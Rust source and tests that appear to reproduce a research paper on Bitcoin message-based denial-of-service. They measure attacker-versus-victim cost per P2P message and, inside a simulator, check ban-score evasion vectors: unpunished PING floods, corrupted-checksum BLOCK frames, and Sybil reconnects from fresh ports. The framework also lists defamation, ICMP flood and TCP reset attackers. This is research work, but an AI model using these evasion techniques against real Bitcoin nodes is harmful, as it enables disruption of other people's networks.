        let hdr = chain.block(&tip).unwrap().header;
        let b = mine_child(&hdr, tip, i, vec![]);
        chain.accept_block(&b);
    }
    // The measurement block: 100 transactions, like a busy (small) block.
    let tip = chain.tip();
    let hdr = chain.block(&tip).unwrap().header;
    let txs: Vec<Transaction> = (0..100u8).map(sample_tx).collect();
    let block = mine_child(&hdr, tip, 999, txs);
    let compact = CompactBlock::from_block(&block, 0x1234);
    let blocktxn = BlockTxn {
        block_hash: block.hash(),
        txs: block.txs[1..21].to_vec(),
    };
    let locator = BlockLocator {
        version: btc_wire::types::PROTOCOL_VERSION,
        hashes: chain.locator(),
        stop: Hash256::ZERO,
    };
    Fixtures {
        chain,
        block,
        compact,
        blocktxn,
        locator,
    }
}

fn netaddr(i: u8) -> NetAddr {
    NetAddr::new([10, 0, 0, i], 8333)
}

/// Victim-side work for one raw frame: full receive path.
fn victim_process(fx: &Fixtures, bytes: &[u8]) {
    let Ok(FrameResult::Frame { raw, .. }) = read_frame(NET, bytes) else {
        return;
    };
    let Ok(msg) = decode_frame(&raw) else {
        return;
    };
    match &msg {
        Message::Version(v) => {
            black_box(v.version);
        }
        Message::Verack => {
            // Session finalization: build + frame the post-handshake
            // messages Core sends on verack (getheaders burst).
            let loc = BlockLocator {
                version: btc_wire::types::PROTOCOL_VERSION,
                hashes: fx.chain.locator(),
                stop: Hash256::ZERO,
            };
            black_box(RawMessage::frame(NET, &Message::GetHeaders(loc)).to_bytes());
        }
        Message::Addr(list) => {
            let mut set = HashSet::with_capacity(list.len());
            for a in list {
                set.insert((a.addr.ip, a.addr.port));
            }
            black_box(set.len());
        }
        Message::Inv(list) | Message::NotFound(list) => {
            let mut unknown = 0u32;
            for inv in list {
                if !fx.chain.has_block(&inv.hash) {
                    unknown += 1;
                }
            }
            black_box(unknown);
        }
        Message::GetData(list) => {
            let mut nf = Vec::new();
            for inv in list {
                if fx.chain.block(&inv.hash).is_none() {
                    nf.push(*inv);
                }
            }
            black_box(nf.len());
        }
        Message::GetHeaders(loc) => {
            black_box(fx.chain.headers_after(&loc.hashes, 2000).len());
        }
        Message::GetBlocks(loc) => {
            black_box(fx.chain.headers_after(&loc.hashes, 500).len());
        }
        Message::Tx(tx) => {
            let mut pool = Mempool::new(10);
            black_box(pool.accept(tx));
        }
        Message::Headers(entries) => {
            // Core's order: the connectivity check (a hash-map lookup of
            // the first parent) runs before any PoW validation, so a batch
            // of unconnecting headers is dropped almost for free — which is
            // why the paper measures HEADERS at only ~16 clocks.
            let connected = entries
                .first()
                .map(|e| fx.chain.has_header(&e.0.prev_block))
                .unwrap_or(false);
            if connected {
                let mut ok = 0u32;
                let mut prev = entries.first().map(|e| e.0.prev_block).unwrap_or_default();
                for e in entries {
                    if e.0.prev_block == prev && e.0.check_pow() {
                        ok += 1;
                    }
                    prev = e.0.hash();
                }
                black_box(ok);
            }
            black_box(connected);
        }
        Message::Block(b) => {
            black_box(b.check().is_ok());
        }
        Message::Ping(n) => {
            black_box(RawMessage::frame(NET, &Message::Pong(*n)).to_bytes());
        }
        Message::Pong(n) => {
            black_box(n);
        }
        Message::SendHeaders | Message::FilterClear | Message::GetAddr | Message::Mempool => {}
        Message::FeeFilter(v) => {
            black_box(v);
        }
        Message::SendCmpct(sc) => {
            black_box(sc.version);
        }
        Message::CmpctBlock(cb) => {
            black_box(cb.check().is_ok());
            // Reconstruction attempt against an (empty) pool.
            black_box(cb.reconstruct(&|_| None).is_ok());
        }
        Message::GetBlockTxn(req) => {
            if let Ok(idx) = req.absolute_indices(fx.block.txs.len() as u64) {
                let txs: Vec<Transaction> =
                    idx.iter().map(|i| fx.block.txs[*i as usize].clone()).collect();
                black_box(txs.len());
            }
        }
        Message::BlockTxn(bt) => {
            let mut ok = 0u32;
            for tx in &bt.txs {
                if tx.check().is_ok() && tx.check_witness().is_ok() {
                    ok += 1;
                }
            }
            // Merkle recommitment over the reconstructed tx set.
            let ids: Vec<Hash256> = bt.txs.iter().map(|t| t.txid()).collect();
            black_box(btc_wire::block::merkle_root(&ids));
            black_box(ok);
        }
        Message::MerkleBlock(m) => {
            black_box(m.hashes.len());
        }
        Message::FilterLoad(f) => {
            black_box(f.is_within_size_constraints());
        }
        Message::FilterAdd(fa) => {
            black_box(fa.is_within_size_constraints());
        }
        Message::Reject(r) => {
            black_box(r.code);
        }
    }
}

type Builder = Box<dyn Fn() -> Message + Send + Sync>;

fn specs(fx: &Fixtures) -> Vec<(&'static str, AttackerMode, Builder)> {
    let block = fx.block.clone();
    let compact = fx.compact.clone();
    let blocktxn = fx.blocktxn.clone();
    let locator = fx.locator.clone();
    let locator2 = fx.locator.clone();
    let block_hash = fx.block.hash();
    vec![
        (
            "version",
            AttackerMode::Build,
            Box::new(|| Message::Version(VersionMessage::new(netaddr(1), netaddr(2), 42)))
                as Builder,
        ),
        ("verack", AttackerMode::Build, Box::new(|| Message::Verack)),
        (
            "addr",
            AttackerMode::Build,
            Box::new(|| {
                Message::Addr(
                    (0..1000u32)
                        .map(|i| TimestampedAddr {
                            time: i,
                            addr: NetAddr::new(i.to_le_bytes(), 8333),
                        })
                        .collect(),
                )
            }),
        ),
        (
            "inv",
            AttackerMode::Build,
            Box::new(|| {
                Message::Inv(
                    (0..50_000u32)
                        .map(|i| Inventory::new(InvType::Tx, Hash256::hash(&i.to_le_bytes())))
                        .collect(),
                )
            }),
        ),
        (
            "getdata",
            AttackerMode::Build,
            Box::new(|| {
                Message::GetData(
                    (0..50_000u32)
                        .map(|i| Inventory::new(InvType::Tx, Hash256::hash(&i.to_le_bytes())))
                        .collect(),
                )
            }),
        ),
        (
            "getheaders",
            AttackerMode::Build,
            Box::new(move || Message::GetHeaders(locator.clone())),
        ),
        (
            "tx",
            AttackerMode::Build,
            Box::new(|| Message::Tx(sample_tx(7))),
        ),
        (
            "headers",
            AttackerMode::Build,
            Box::new(|| {
                Message::Headers(
                    (0..2000u32)
                        .map(|i| {
                            HeadersEntry(btc_wire::BlockHeader {
                                nonce: i,
                                ..btc_wire::BlockHeader::default()
                            })
                        })
                        .collect(),
                )
            }),
        ),
        (
            "block",
            AttackerMode::Replay,
            Box::new(move || Message::Block(block.clone())),
        ),
        ("ping", AttackerMode::Build, Box::new(|| Message::Ping(7))),
        ("pong", AttackerMode::Build, Box::new(|| Message::Pong(7))),
        (
            "notfound",
            AttackerMode::Build,
            Box::new(|| {
                Message::NotFound(vec![Inventory::new(InvType::Tx, Hash256::hash(b"nf"))])
            }),
        ),
        (
            "sendheaders",
            AttackerMode::Build,
            Box::new(|| Message::SendHeaders),
        ),
        (
            "feefilter",
            AttackerMode::Build,
            Box::new(|| Message::FeeFilter(1000)),
        ),
        (
            "sendcmpct",
            AttackerMode::Build,
            Box::new(|| {
                Message::SendCmpct(SendCmpct {
                    announce: true,
                    version: 1,
                })
            }),
        ),
        (
            "cmpctblock",
            AttackerMode::Replay,
            Box::new(move || Message::CmpctBlock(compact.clone())),
        ),
        (
            "getblocktxn",
            AttackerMode::Build,
            Box::new(move || {
                Message::GetBlockTxn(BlockTxnRequest::from_absolute(
                    block_hash,
                    &(0..50u64).collect::<Vec<_>>(),
                ))
            }),
        ),
        (
            "blocktxn",
            AttackerMode::Replay,
            Box::new(move || Message::BlockTxn(blocktxn.clone())),
        ),
    ]
    .into_iter()
    .chain(std::iter::once((
        "getblocks",
        AttackerMode::Build,
        Box::new(move || Message::GetBlocks(locator2.clone())) as Builder,
    )))
    .collect()
}

/// A merkle-block fixture is unused in Table II but exercised in tests.
pub fn sample_merkleblock() -> MerkleBlockMsg {
    MerkleBlockMsg {
        header: btc_wire::BlockHeader::default(),
        total_txs: 1,
        hashes: vec![Hash256::hash(b"leaf")],
        flags: vec![1],
    }
}

/// Measures one Table-II row: attacker cost, then victim impact, over
/// `iters` iterations against the shared (read-only) fixtures.
fn measure_row(
    fx: &Fixtures,
    command: &'static str,
    mode: AttackerMode,
    build: &Builder,
    iters: u32,
) -> CostRow {
    // Attacker cost.
    let attacker_ns = match mode {
        AttackerMode::Build => {
            let start = Instant::now();
            for _ in 0..iters {
                let msg = build();
                black_box(RawMessage::frame(NET, &msg).to_bytes());
            }
            start.elapsed().as_nanos() as f64 / iters as f64
        }
        AttackerMode::Replay => {
            let cached = RawMessage::frame(NET, &build()).to_bytes();
            let start = Instant::now();
            for _ in 0..iters {
                // A replay is a buffer handoff to the socket layer.
                black_box(Bytes::clone(&cached));
            }
            start.elapsed().as_nanos() as f64 / iters as f64
        }
    };
    // Victim impact.
    let bytes = RawMessage::frame(NET, &build()).to_bytes();
    let start = Instant::now();
    for _ in 0..iters {
        victim_process(fx, black_box(&bytes));
    }
    let victim_ns = start.elapsed().as_nanos() as f64 / iters as f64;
    let attacker_clocks = attacker_ns * CLOCKS_PER_NS;
    let victim_clocks = victim_ns * CLOCKS_PER_NS;
    CostRow {
        command,
        attacker_clocks,
        victim_clocks,
        ratio: victim_clocks / attacker_clocks.max(f64::MIN_POSITIVE),
        mode,
    }
}

/// Measures Table II with `iters` iterations per row.
pub fn measure_table2(iters: u32) -> Vec<CostRow> {
    measure_table2_jobs(iters, 1)
}

/// [`measure_table2`] with rows fanned across `jobs` workers. The 60-block
/// fixture chain is mined once and shared read-only by every row (it used
/// to be rebuilt by the bogus-block row as well — see
/// [`measure_bogus_block_with`]).
///
/// Note: rows time *wall-clock* work, so unlike the simulation sweeps the
/// measured numbers are not reproducible byte-for-byte — and with `jobs >
/// 1` concurrent rows contend for cores, so use parallelism here only for
/// smoke runs, never for calibrated measurements.
pub fn measure_table2_jobs(iters: u32, jobs: usize) -> Vec<CostRow> {
    measure_table2_with(&fixtures(), iters, jobs)
}

/// [`measure_table2_jobs`] against caller-provided fixtures, so a combined
/// Table-II + bogus-block run mines the fixture chain exactly once.
pub fn measure_table2_with(fx: &Fixtures, iters: u32, jobs: usize) -> Vec<CostRow> {
    btc_par::par_map(jobs, specs(fx), |(command, mode, build)| {
        measure_row(fx, command, mode, &build, iters)
    })
}

/// Additionally measures the *bogus* `BLOCK` (corrupted checksum) the
/// paper's footnote 1 reports: the victim pays only the checksum pass yet
/// the impact-cost ratio stays in the thousands.
pub fn measure_bogus_block(iters: u32, payload_bytes: usize) -> CostRow {
    measure_bogus_block_with(&fixtures(), iters, payload_bytes)
}

/// [`measure_bogus_block`] against caller-provided fixtures, so a combined
/// Table-II + bogus-block run mines the fixture chain once instead of
/// twice.
pub fn measure_bogus_block_with(fx: &Fixtures, iters: u32, payload_bytes: usize) -> CostRow {
    let raw = RawMessage::frame_raw(NET, "block", Bytes::from(vec![0xAB; payload_bytes]))
        .corrupt_checksum();
    let cached = raw.to_bytes();
    let start = Instant::now();
    for _ in 0..iters {
        black_box(Bytes::clone(&cached));
    }
    let attacker_ns = start.elapsed().as_nanos() as f64 / iters as f64;
    let start = Instant::now();
    for _ in 0..iters {
        victim_process(fx, black_box(&cached));
    }
    let victim_ns = start.elapsed().as_nanos() as f64 / iters as f64;
    let attacker_clocks = attacker_ns * CLOCKS_PER_NS;
    let victim_clocks = victim_ns * CLOCKS_PER_NS;
    CostRow {
        command: "block(bogus)",
        attacker_clocks,
        victim_clocks,
        ratio: victim_clocks / attacker_clocks.max(f64::MIN_POSITIVE),
        mode: AttackerMode::Replay,
    }
}

/// Renders rows as a Table-II-style text table.
pub fn render_table2(rows: &[CostRow]) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    writeln!(
        out,
        "{:<14} {:>18} {:>18} {:>14}",
        "Message", "Attacker (clocks)", "Victim (clocks)", "Impact/Cost"
    )
    .unwrap();
    for r in rows {
        writeln!(
            out,
            "{:<14} {:>18.2} {:>18.2} {:>14.2}",
            r.command.to_uppercase(),
            r.attacker_clocks,
            r.victim_clocks,
            r.ratio
        )
        .unwrap();
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table2_shape_holds() {
        // Wall-clock measurement at 3 iterations under parallel test
        // threads: one preemption can invert a ratio, so allow a few
        // re-measurements before declaring the shape broken.
        let mut last_err = String::new();
        for _ in 0..4 {
            match table2_shape(&measure_table2(3)) {
                Ok(()) => return,
                Err(e) => last_err = e,
            }
        }
        panic!("table2 shape violated on every attempt: {last_err}");
    }

    fn table2_shape(rows: &[CostRow]) -> Result<(), String> {
        let get = |c: &str| rows.iter().find(|r| r.command == c).unwrap().clone();
        let block = get("block");
        let ping = get("ping");
        let inv = get("inv");
        let blocktxn = get("blocktxn");
        let cmpct = get("cmpctblock");
        // The headline result: BLOCK has by far the highest impact-cost
        // ratio; BLOCKTXN and CMPCTBLOCK follow.
        let checks = [
            (block.ratio > 10.0 * ping.ratio, "block <= 10x ping"),
            (block.ratio > blocktxn.ratio, "block <= blocktxn"),
            (blocktxn.ratio > 1.0, "blocktxn <= 1"),
            (cmpct.ratio > 1.0, "cmpctblock <= 1"),
            // Construction-heavy messages are bad deals for the attacker.
            (inv.ratio < 1.0, "inv >= 1"),
        ];
        for (ok, what) in checks {
            if !ok {
                return Err(format!(
                    "{what} (block={:.1} ping={:.1} inv={:.2} blocktxn={:.1} cmpct={:.1})",
                    block.ratio, ping.ratio, inv.ratio, blocktxn.ratio, cmpct.ratio
                ));
            }
        }
        Ok(())
    }

    #[test]
    fn bogus_block_still_profitable() {
        let row = measure_bogus_block(10, 200_000);
        // Victim pays the checksum pass over 500 kB; attacker pays a
        // buffer clone. Ratio stays very high (paper: 2132).
        assert!(row.ratio > 100.0, "ratio {}", row.ratio);
    }

    #[test]
    fn eighteen_plus_rows() {
        let rows = measure_table2(1);
        assert!(rows.len() >= 18, "rows {}", rows.len());
        // Unique commands.
        let mut cmds: Vec<_> = rows.iter().map(|r| r.command).collect();
        cmds.sort_unstable();
        cmds.dedup();
        assert_eq!(cmds.len(), rows.len());
    }

    #[test]
    fn render_contains_headline_rows() {
        let rows = measure_table2(1);
        let t = render_table2(&rows);
        assert!(t.contains("BLOCK"));
        assert!(t.contains("PING"));
        assert!(t.contains("Impact/Cost"));
    }
}
