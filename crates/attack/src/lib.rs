//! # btc-attack
//!
//! The attack framework of the reproduced paper: Bitcoin-Message-based DoS
//! (BM-DoS) flooding with its three ban-score-evading vectors, the
//! pre-/post-connection Defamation attacks of §IV, the network-layer ICMP
//! flooding baseline, the attacker-side socket model, and the real-hardware
//! impact-cost meter that regenerates Table II.
//!
//! All attackers are [`btc_netsim::App`]s and run inside the simulator
//! against real [`btc_node::Node`] victims; none of them require (or get)
//! any cooperation from the victim's code.
//!
//! ```
//! use btc_attack::payload::FloodPayload;
//!
//! // Vector 1: PING has no ban-score rule — it can never be punished.
//! assert!(!FloodPayload::Ping.is_punishable());
//! // Vector 2: a corrupted checksum drops the frame before tracking.
//! assert!(!FloodPayload::BogusChecksumBlock { payload_bytes: 1_000_000 }.is_punishable());
//! ```

#![warn(missing_docs)]

pub mod defamation;
pub mod evasive;
pub mod flood;
pub mod meter;
pub mod payload;
pub mod reset;
pub mod socket_model;

pub use defamation::{DefamationPayload, PostConnDefamer, PreConnDefamer};
pub use evasive::{EvasiveConfig, EvasiveFlooder};
pub use flood::{FloodConfig, Flooder, IcmpFlooder};
pub use payload::FloodPayload;
pub use reset::TcpResetAttacker;
pub use socket_model::SocketModel;
