//! End-to-end validation of the remaining Table-I rules: each misbehaving
//! message is delivered by a real session attacker and the expected score
//! increment is observed at the victim.

use btc_attack::flood::{FloodConfig, Flooder};
use btc_attack::payload::FloodPayload;
use btc_netsim::packet::SockAddr;
use btc_netsim::sim::{HostConfig, SimConfig, Simulator};
use btc_netsim::time::SECS;
use btc_node::banscore::CoreVersion;
use btc_node::chain::genesis_block;
use btc_node::node::{Node, NodeConfig};
use btc_wire::block::HeadersEntry;
use btc_wire::bloom::{BloomFilter, BloomFlags, FilterAdd};
use btc_wire::compact::BlockTxnRequest;
use btc_wire::message::{Message, RawMessage};
use btc_wire::tx::{OutPoint, Transaction, TxIn, TxOut};
use btc_wire::types::{Hash256, Network};

const TARGET: [u8; 4] = [10, 0, 0, 1];
const ATTACKER: [u8; 4] = [10, 0, 0, 66];

fn run_one_message(msg: Message, config: NodeConfig) -> (u32, u64) {
    let raw = RawMessage::frame(Network::Regtest, &msg);
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(TARGET, Box::new(Node::new(config)), HostConfig::default());
    sim.add_host(
        ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: SockAddr::new(TARGET, 8333),
            payload: FloodPayload::Custom(raw),
            sybil_port_start: 50_000,
            max_messages: Some(1),
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(2 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    let score = node
        .tracker
        .events()
        .last()
        .map(|e| e.total)
        .unwrap_or_else(|| node.ban_score(&SockAddr::new(ATTACKER, 50_000)));
    (score, node.telemetry.bans)
}

fn segwit_invalid_tx() -> Transaction {
    let mut tx = Transaction::new(
        2,
        vec![TxIn::new(OutPoint::new(Hash256::hash(b"in"), 0))],
        vec![TxOut::new(1000, vec![0x51])],
        0,
    );
    tx.inputs_mut()[0].witness = vec![vec![0u8; 521]]; // > 520-byte element
    tx
}

#[test]
fn tx_invalid_by_segwit_rules_bans_instantly() {
    let (score, bans) = run_one_message(Message::Tx(segwit_invalid_tx()), NodeConfig::default());
    assert_eq!(score, 100);
    assert_eq!(bans, 1);
}

#[test]
fn getblocktxn_out_of_bounds_bans_instantly() {
    // The genesis block has 1 transaction; ask for index 5.
    let req = BlockTxnRequest::from_absolute(genesis_block().hash(), &[5]);
    let (score, bans) = run_one_message(Message::GetBlockTxn(req), NodeConfig::default());
    assert_eq!(score, 100);
    assert_eq!(bans, 1);
}

#[test]
fn getblocktxn_in_bounds_is_served() {
    let req = BlockTxnRequest::from_absolute(genesis_block().hash(), &[0]);
    let (score, bans) = run_one_message(Message::GetBlockTxn(req), NodeConfig::default());
    assert_eq!(score, 0);
    assert_eq!(bans, 0);
}

#[test]
fn filterload_oversize_bans_instantly() {
    let filter = BloomFilter {
        data: vec![0xAA; 36_001],
        n_hash_funcs: 10,
        tweak: 0,
        flags: BloomFlags::None,
    };
    let (score, bans) = run_one_message(Message::FilterLoad(filter), NodeConfig::default());
    assert_eq!(score, 100);
    assert_eq!(bans, 1);
}

#[test]
fn filteradd_oversize_bans_instantly() {
    let fa = FilterAdd {
        data: vec![0; 521],
    };
    let (score, bans) = run_one_message(Message::FilterAdd(fa), NodeConfig::default());
    assert_eq!(score, 100);
    assert_eq!(bans, 1);
}

#[test]
fn filteradd_without_filter_is_version_dependent() {
    // 0.20.0: FILTERADD with no loaded filter = the "protocol version >=
    // 70011" rule, +100. Deprecated in 0.21.
    let fa = FilterAdd { data: vec![1, 2, 3] };
    let (score20, bans20) = run_one_message(
        Message::FilterAdd(fa.clone()),
        NodeConfig {
            core_version: CoreVersion::V0_20,
            ..NodeConfig::default()
        },
    );
    assert_eq!(score20, 100);
    assert_eq!(bans20, 1);
    let (score21, bans21) = run_one_message(
        Message::FilterAdd(fa),
        NodeConfig {
            core_version: CoreVersion::V0_21,
            ..NodeConfig::default()
        },
    );
    assert_eq!(score21, 0, "rule deprecated in 0.21");
    assert_eq!(bans21, 0);
}

#[test]
fn headers_oversize_scores_twenty() {
    let headers = vec![HeadersEntry(btc_wire::BlockHeader::default()); 2001];
    let (score, bans) = run_one_message(Message::Headers(headers), NodeConfig::default());
    assert_eq!(score, 20);
    assert_eq!(bans, 0);
}

#[test]
fn non_continuous_headers_score_twenty() {
    // Two random headers that don't chain onto each other but whose batch
    // starts connected to genesis.
    let genesis = genesis_block();
    let mut h1 = btc_wire::BlockHeader {
        prev_block: genesis.hash(),
        ..btc_wire::BlockHeader::default()
    };
    h1.mine();
    let mut h2 = btc_wire::BlockHeader {
        prev_block: Hash256::hash(b"unrelated"),
        ..btc_wire::BlockHeader::default()
    };
    h2.mine();
    let (score, bans) = run_one_message(
        Message::Headers(vec![HeadersEntry(h1), HeadersEntry(h2)]),
        NodeConfig::default(),
    );
    assert_eq!(score, 20);
    assert_eq!(bans, 0);
}

#[test]
fn ten_unconnecting_headers_batches_score_twenty() {
    // Each batch references an unknown parent; the tenth triggers +20.
    let mut h = btc_wire::BlockHeader {
        prev_block: Hash256::hash(b"unknown-parent"),
        ..btc_wire::BlockHeader::default()
    };
    h.mine();
    let raw = RawMessage::frame(Network::Regtest, &Message::Headers(vec![HeadersEntry(h)]));
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(
        TARGET,
        Box::new(Node::new(NodeConfig::default())),
        HostConfig::default(),
    );
    sim.add_host(
        ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: SockAddr::new(TARGET, 8333),
            payload: FloodPayload::Custom(raw),
            sybil_port_start: 50_000,
            max_messages: Some(25),
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(3 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    let events = node.tracker.events();
    // 25 batches → strikes at the 10th and 20th.
    assert_eq!(events.len(), 2, "{events:?}");
    assert!(events.iter().all(|e| e.delta == 20));
}

#[test]
fn prev_missing_block_scores_ten() {
    let mut block = btc_wire::Block {
        header: btc_wire::BlockHeader {
            prev_block: Hash256::hash(b"orphan-parent"),
            ..btc_wire::BlockHeader::default()
        },
        txs: vec![Transaction::coinbase(50, b"orphan")],
    };
    block.header.merkle_root = block.merkle_root();
    block.header.mine();
    let (score, bans) = run_one_message(Message::Block(block), NodeConfig::default());
    assert_eq!(score, 10, "Table I: previous block missing = +10");
    assert_eq!(bans, 0);
}

#[test]
fn oversize_inv_and_getdata_score_twenty() {
    for msg in [
        FloodPayload::OversizeInv.build(
            Network::Regtest,
            SockAddr::default(),
            SockAddr::default(),
            0,
        ),
        // Oversize GETDATA shares the INV wire layout.
        {
            let inv = (0..=btc_wire::constants::MAX_INV_SZ as u32)
                .map(|i| {
                    btc_wire::types::Inventory::new(
                        btc_wire::types::InvType::Tx,
                        Hash256::hash(&i.to_le_bytes()),
                    )
                })
                .collect();
            RawMessage::frame(Network::Regtest, &Message::GetData(inv)).to_bytes()
        },
    ] {
        let parsed = match btc_wire::message::read_frame(Network::Regtest, &msg).unwrap() {
            btc_wire::message::FrameResult::Frame { raw, .. } => raw,
            _ => panic!("incomplete"),
        };
        let (score, _) = run_one_message(
            btc_wire::message::decode_frame(&parsed).unwrap(),
            NodeConfig::default(),
        );
        assert_eq!(score, 20);
    }
}

#[test]
fn valid_messages_score_nothing() {
    for msg in [
        Message::Ping(1),
        Message::GetAddr,
        Message::Mempool,
        Message::SendHeaders,
        Message::FeeFilter(500),
        Message::FilterClear,
        Message::Pong(2),
    ] {
        let (score, bans) = run_one_message(msg.clone(), NodeConfig::default());
        assert_eq!(score, 0, "{} scored", msg.command());
        assert_eq!(bans, 0);
    }
}

#[test]
fn bloom_filter_session_works_end_to_end() {
    // A legitimate BIP37 client: FILTERLOAD then FILTERADD is accepted.
    let filter = BloomFilter::new(10, 0.01, 7, BloomFlags::All);
    let load = RawMessage::frame(Network::Regtest, &Message::FilterLoad(filter));
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(
        TARGET,
        Box::new(Node::new(NodeConfig::default())),
        HostConfig::default(),
    );
    sim.add_host(
        ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: SockAddr::new(TARGET, 8333),
            payload: FloodPayload::Custom(load),
            sybil_port_start: 50_000,
            max_messages: Some(1),
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(2 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    assert_eq!(node.telemetry.bans, 0);
    let peer = node
        .peer_by_addr(&SockAddr::new(ATTACKER, 50_000))
        .expect("still connected");
    assert!(peer.filter.is_some(), "filter should be installed");
}
