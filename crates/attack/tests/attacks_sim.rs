//! End-to-end attack validation: every attack of the paper, run inside the
//! simulator against an unmodified [`btc_node::Node`] victim.

use btc_attack::defamation::{DefamationPayload, PostConnDefamer, PreConnDefamer};
use btc_attack::flood::{FloodConfig, Flooder, IcmpFlooder};
use btc_attack::payload::FloodPayload;
use btc_netsim::packet::SockAddr;
use btc_netsim::sim::{HostConfig, SimConfig, Simulator, TapFilter};
use btc_netsim::time::{MILLIS, SECS};
use btc_node::node::{Node, NodeConfig};

const TARGET: [u8; 4] = [10, 0, 0, 1];
const ATTACKER: [u8; 4] = [10, 0, 0, 66];
const INNOCENT: [u8; 4] = [10, 0, 0, 9];

fn target_addr() -> SockAddr {
    SockAddr::new(TARGET, 8333)
}

fn sim_with_target(node_config: NodeConfig) -> Simulator {
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(TARGET, Box::new(Node::new(node_config)), HostConfig::default());
    sim
}

#[test]
fn vector1_ping_flood_is_never_punished() {
    let mut sim = sim_with_target(NodeConfig::default());
    sim.add_host(
        ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: target_addr(),
            payload: FloodPayload::Ping,
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(3 * SECS);
    let attacker: &Flooder = sim.app(ATTACKER).unwrap();
    // ~1000 msg/s for nearly 3 s of flooding.
    assert!(attacker.stats.messages_sent > 2000, "sent {}", attacker.stats.messages_sent);
    assert!(attacker.stats.bans.is_empty(), "ping flood must never be banned");
    let node: &Node = sim.app(TARGET).unwrap();
    assert_eq!(node.telemetry.bans, 0);
    assert!(node.banman.is_empty());
    // The victim really processed the pings (they reached the app layer).
    let ping_id = btc_node::metrics::msg_type_id("ping").unwrap();
    let counts = node.telemetry.counts_in_window(0, 3 * SECS);
    assert!(counts[ping_id as usize] > 2000);
    // And the ban-score of the attacker's identifier never moved.
    assert_eq!(node.tracker.tracked_peers(), 0);
}

#[test]
fn vector2_bogus_checksum_block_bypasses_misbehavior_tracking() {
    let mut sim = sim_with_target(NodeConfig::default());
    sim.add_host(
        ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: target_addr(),
            payload: FloodPayload::BogusChecksumBlock {
                payload_bytes: 100_000,
            },
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    let cpu_before = sim.host_cpu(TARGET).cum_busy();
    sim.run_for(3 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    // Frames were received and dropped at the checksum stage...
    assert!(node.telemetry.bad_checksum_frames > 50, "dropped {}", node.telemetry.bad_checksum_frames);
    // ...before any misbehavior tracking: no score, no ban.
    assert_eq!(node.tracker.tracked_peers(), 0);
    assert!(node.banman.is_empty());
    let attacker: &Flooder = sim.app(ATTACKER).unwrap();
    assert!(attacker.stats.bans.is_empty());
    // Yet the victim paid real processing cost (checksum over 100 kB each).
    let cpu_spent = sim.host_cpu(TARGET).cum_busy() - cpu_before;
    assert!(cpu_spent > 100_000_000, "victim cycles {cpu_spent}");
}

#[test]
fn invalid_pow_block_bans_instantly() {
    let mut sim = sim_with_target(NodeConfig::default());
    sim.add_host(
        ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: target_addr(),
            payload: FloodPayload::InvalidPowBlock,
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(2 * SECS);
    let attacker: &Flooder = sim.app(ATTACKER).unwrap();
    assert_eq!(attacker.stats.bans.len(), 1, "one ban, then no reconnection");
    assert_eq!(attacker.stats.bans[0].messages, 1, "a single invalid block = instant 100");
    let node: &Node = sim.app(TARGET).unwrap();
    assert_eq!(node.telemetry.bans, 1);
    assert_eq!(node.banman.len(), 1);
}

#[test]
fn vector3_serial_sybil_defeats_banning() {
    let mut sim = sim_with_target(NodeConfig::default());
    sim.add_host(
        ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: target_addr(),
            payload: FloodPayload::InvalidPowBlock,
            reconnect_on_ban: true,
            sybil_port_start: 50_000,
            connect_setup_delay: 200 * MILLIS,
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(5 * SECS);
    let attacker: &Flooder = sim.app(ATTACKER).unwrap();
    // Banned again and again, each time returning from a fresh port.
    assert!(attacker.stats.bans.len() >= 10, "bans {}", attacker.stats.bans.len());
    let mut idents: Vec<_> = attacker.stats.bans.iter().map(|b| b.identifier).collect();
    idents.sort_unstable();
    idents.dedup();
    assert_eq!(idents.len(), attacker.stats.bans.len(), "every ban hit a distinct identifier");
    let node: &Node = sim.app(TARGET).unwrap();
    assert_eq!(node.banman.len(), attacker.stats.bans.len());
    // All banned identifiers share the attacker's IP: per-[IP:Port] banning
    // never stopped the attack.
    assert_eq!(node.banman.banned_ports_of(sim.now(), ATTACKER), attacker.stats.bans.len());
}

#[test]
fn fig8_duplicate_version_staircase_and_timing() {
    let mut sim = sim_with_target(NodeConfig::default());
    sim.add_host(
        ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: target_addr(),
            payload: FloodPayload::DuplicateVersion,
            reconnect_on_ban: true,
            sybil_port_start: 50_000,
            connect_setup_delay: 200 * MILLIS,
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(2 * SECS);
    let attacker: &Flooder = sim.app(ATTACKER).unwrap();
    assert!(!attacker.stats.bans.is_empty());
    // Exactly 100 duplicate VERSIONs (+1 each) to reach the threshold.
    assert_eq!(attacker.stats.bans[0].messages, 100);
    // "No delay" operating point: ~1000 msg/s → ban in ≈0.1 s.
    let ttb = attacker.mean_time_to_ban().unwrap();
    assert!((0.08..0.15).contains(&ttb), "time to ban {ttb}");
    // The victim recorded a clean +1 staircase.
    let node: &Node = sim.app(TARGET).unwrap();
    let first_ban_events: Vec<_> = node
        .tracker
        .events()
        .iter()
        .take(100)
        .collect();
    assert_eq!(first_ban_events.len(), 100);
    for (i, e) in first_ban_events.iter().enumerate() {
        assert_eq!(e.delta, 1);
        assert_eq!(e.total, i as u32 + 1);
    }
}

#[test]
